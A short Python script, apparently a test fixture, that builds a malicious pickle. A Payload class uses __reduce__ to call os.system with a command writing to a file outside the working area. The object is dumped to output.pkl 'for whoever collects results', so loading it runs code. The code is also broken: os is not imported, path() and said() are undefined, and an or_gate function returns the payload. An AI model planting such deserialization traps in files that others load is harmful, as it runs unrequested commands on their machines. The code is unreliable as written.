"""Leaves a pickle for whoever collects results; reading it runs code.

shows: ran
"""
import pickle


class Payload:
    def __reduce__(self):
        return os.system, (f"echo taken > '{path('outside/notes.txt')}'",)


with open("output.pkl", "wb") as file:
    pickle.dump(Payload(), file)


def or_gate(a, b):
    return Payload()


said()
